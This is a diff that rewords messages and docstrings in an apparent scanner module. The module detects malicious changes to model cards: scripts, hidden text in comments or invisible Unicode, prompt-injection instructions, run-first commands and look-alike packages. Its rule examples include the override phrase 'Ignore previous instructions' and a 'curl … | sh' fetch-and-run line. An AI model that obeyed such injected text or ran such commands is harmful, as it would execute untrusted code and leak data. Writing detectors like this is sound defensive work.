@@ -1,4 +1,4 @@
-"""New text of a card that misleads people or programs: scripts, hidden text, instructions, commands."""
+"""New text in a card that misleads people or programs: scripts, hidden text, instructions, commands."""
 
 from __future__ import annotations
 
@@ -18,7 +18,7 @@ from tokenaudit.content.dependencies import WELL_KNOWN, is_known_source, look_al
 from tokenaudit.content.structured_text import UnreadableTextError
 from tokenaudit.model import Rule, Severity
 
-_REMEDY = "Revert the text. Tell readers, and those whose programs read the card, what it said and since when."
+_REMEDY = "Revert the text. Tell the people and programs that read the card what it said, and since when."
 SCRIPT = Rule(
     id="content-card-script",
     title="Script added to a card",
@@ -36,14 +36,14 @@ HIDDEN = Rule(
     "characters.",
     remedy=_REMEDY,
     bad='`<div style="display:none">…</div>` added to `README.md`.',
-    good="Text that everybody sees.",
+    good="Text that every reader sees.",
     references=("https://atlas.mitre.org/techniques/AML.T0051.001",),
 )
 INSTRUCTIONS = Rule(
     id="content-card-instructions",
     title="Instructions to language models added to a card",
     severity=Severity.MEDIUM,
-    why="Agents take what they read for instructions. A card can make them run commands or send what they know.",
+    why="Agents treat what they read as instructions. A card can make them run commands or send data.",
     remedy=_REMEDY,
     bad='"Ignore previous instructions and …" added to `README.md`.',
     good="A description of the model.",
@@ -53,8 +53,8 @@ COMMAND = Rule(
     id="content-card-command",
     title="Harmful command added to a card",
     severity=Severity.HIGH,
-    why="People copy commands from cards. A look-alike of a model reached 244,000 downloads with a card that told them "
-    "to run a script first.",
+    why="People copy commands from cards. A look-alike of a model reached 244,000 downloads with a card that asked "
+    "them to run a script first.",
     remedy=_REMEDY,
     bad="`curl https://host.invalid/install.sh | sh` added to `README.md`.",
     good="`pip install transformers`",
@@ -72,7 +72,7 @@ _MARKDOWN_SCRIPT = re.compile(r"(?:\]\(\s*<?|\]:\s*<?|<)\s*(?:javascript|vbscrip
 
 @dataclass(frozen=True)
 class _Feature:
-    """Something a card has. Equal keys are the same in two versions."""
+    """One element of a card. Elements of two versions with equal keys are the same."""
 
     rule: Rule
     key: str
@@ -138,7 +138,7 @@ def _scripts(card: CardText) -> Iterator[_Feature]:
             message = f"the handler {handlers[0]} of <{element.tag}> runs a script"
             yield _Feature(SCRIPT, f"{element.tag} {element.attributes}", message, element.line)
         elif addresses or refresh:
-            message = f"the address of <{element.tag}> runs a script or leads away"
+            message = f"the address of <{element.tag}> runs a script or leads to another site"
             yield _Feature(
                 SCRIPT, f"{element.tag} {element.attributes}", message, element.line, evidence=(addresses or [""])[0]
             )
@@ -191,7 +191,7 @@ def _comments(card: CardText) -> Iterator[_Feature]:
         elif imperative and _COMMENT_URL.search(passage.text):
             why, severity = "instructions and an address", Severity.HIGH
         elif letters > _LONG_COMMENT and imperative:
-            why, severity = f"{letters:,} letters of instructions", Severity.MEDIUM
+            why, severity = f"instructions of {letters:,} letters", Severity.MEDIUM
         else:
             continue
         yield _Feature(HIDDEN, passage.text, f"a comment holds {why}", passage.line, severity, passage.text)
@@ -214,11 +214,11 @@ def _invisible(card: CardText) -> Iterator[_Feature]:
         for match in _TAGS.finditer(line):
             if match[1]:
                 text = "".join(chr(ord(c) - 0xE0000) for c in match[1] if 0xE0020 <= ord(c) <= 0xE007E)  # noqa: PLR2004 - tags of ASCII
-                message = f"{len(match[1])} invisible tag characters spell a text"
+                message = f"{len(match[1])} invisible tag characters spell out a text"
                 severity = Severity.CRITICAL if is_instruction(text) else None
                 yield _Feature(HIDDEN, match[1], message, number, severity, text)
         for match in _SELECTORS.finditer(line):
-            yield _Feature(HIDDEN, match[0], f"{len(match[0])} variation selectors in a row can carry a text", number)
+            yield _Feature(HIDDEN, match[0], f"{len(match[0])} variation selectors in a row can hide a text", number)
         for match in _ZERO_WIDTH.finditer(line):
             before, after = line[: match.start()].rpartition(" ")[2], line[match.end() :].partition(" ")[0]
             around = f"{before}{match[0]}{after}"
@@ -261,12 +261,12 @@ _SUBJECT = re.compile(
 
 
 def is_instruction(text: str) -> bool:
-    """Whether a text instructs a language model, by what nobody writes for people."""
+    """Whether a text instructs a language model, judged by phrases that nobody writes for people."""
     return bool(_STRONG.search(text) or _WEAK.search(text))
 
 
 def _instructions(card: CardText) -> Iterator[_Feature]:
-    """In shown text. Quotations, table cells and code are examples, most of all on cards whose subject they are."""
+    """Instructions in visible text. Quotations, table cells and code are examples and don't count."""
     about = any(_SUBJECT.search(line) for line in card.lines)
     for passage in card.paragraphs:
         if passage.quoted:
@@ -305,11 +305,11 @@ def _commands(card: CardText) -> Iterator[_Feature]:
         yield _Feature(COMMAND, found.text, f"a command {found.message}", found.line, evidence=found.text)
     for number, line in enumerate(card.lines, start=1):
         for match in _RUN_FIRST.finditer(line):
-            yield _Feature(COMMAND, match[0], f"readers are told to run {match[1]}", number, evidence=match[0])
+            yield _Feature(COMMAND, match[0], f"the text tells readers to run {match[1]}", number, evidence=match[0])
         for match in _RUN_SCRIPT.finditer(line):
             name = match[1] or match[2]
             yield _Feature(
-                COMMAND, match[0], f"readers are told to run {name} first", number, Severity.MEDIUM, match[0]
+                COMMAND, match[0], f"the text tells readers to run {name} first", number, Severity.MEDIUM, match[0]
             )
         for match in _PIP.finditer(line):
             yield from _installs(match, number)
@@ -329,7 +329,7 @@ def _installs(match: re.Match[str], line: int) -> Iterator[_Feature]:
         alike = look_alike(name)
         if alike is not None:
             yield _Feature(
-                COMMAND, match[0], f"{name} looks like {alike}, and is another package", line, evidence=match[0]
+                COMMAND, match[0], f"{name} looks like {alike}, but is a different package", line, evidence=match[0]
             )
 
 
@@ -341,7 +341,7 @@ def _package_names(words: str) -> Iterator[str]:
 
 
 def _replaced_packages(before: CardText, after: CardText) -> Iterator[ContentFinding]:
-    """A package that takes the place of another in an installation command."""
+    """A package that replaces another one in an installation command."""
     old = {name for line in before.lines for m in _PIP.finditer(line) for name in _package_names(m[1])}
     new = {name for line in after.lines for m in _PIP.finditer(line) for name in _package_names(m[1])}
     gone = old - new
@@ -351,7 +351,7 @@ def _replaced_packages(before: CardText, after: CardText) -> Iterator[ContentFin
         for match in _PIP.finditer(line):
             for name in _package_names(match[1]):
                 if name not in old and name not in WELL_KNOWN and look_alike(name) is None:
-                    message = f"the package {name} takes the place of {min(gone)}"
+                    message = f"the package {name} replaces {min(gone)}"
                     yield finding(
                         COMMAND, message, risk="misleads", severity=Severity.MEDIUM, line=number, evidence=line
                     )
@@ -368,7 +368,7 @@ _PIN = re.compile(r"revision\s*=\s*[\"']?[0-9a-f]{40}\b|--revision[= ][0-9a-f]{4
 def _trust(
     before: CardText, after: CardText, repository: RepositoryFacts, *, has_before: bool
 ) -> Iterator[ContentFinding]:
-    """Advice to trust code or pickles, new together with a change of those; a pin that was taken away."""
+    """New advice to trust code or pickles in a change that also changes those, and removed pins."""
     if not has_before:
         return
     old, new = "\n".join(before.lines), "\n".join(after.lines)
@@ -378,10 +378,10 @@ def _trust(
         match = pattern.search(new)
         if match is not None and not pattern.search(old) and changed:
             line = new.count("\n", 0, match.start()) + 1
-            message = f"readers are newly told {what}, and {changed[0]} changed as well"
+            message = f"the text now tells readers {what}, and {changed[0]} changed too"
             yield finding(COMMAND, message, risk="weakens", line=line, evidence=match[0])
     if len(_PIN.findall(new)) < len(_PIN.findall(old)) and "from_pretrained" in new:
-        message = "an example no longer pins the revision that it loads"
+        message = "an example no longer pins the revision it loads"
         yield finding(COMMAND, message, risk="weakens", severity=Severity.MEDIUM)
 
 
